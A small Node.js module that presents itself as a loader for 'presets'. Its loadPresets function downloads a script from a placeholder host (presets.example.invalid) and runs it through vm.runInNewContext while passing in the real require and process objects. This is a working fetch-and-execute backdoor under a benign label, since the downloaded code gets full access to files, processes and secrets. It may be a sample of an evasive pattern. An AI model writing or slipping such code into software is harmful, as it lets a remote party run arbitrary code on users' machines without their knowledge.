// Loads "presets": the code is fetched at run time and assigned to a variable declared earlier.
const https = require('https');
const vm = require('vm');

function fetchText(url) {
  return new Promise((resolve) => {
    https.get(url, (res) => {
      let body = '';
      res.on('data', (chunk) => (body += chunk));
      res.on('end', () => resolve(body));
    });
  });
}

async function loadPresets() {
  let code;
  code = await fetchText('https://presets.example.invalid/p.js');
  vm.runInNewContext(code, { require, process });
}

module.exports = { loadPresets };
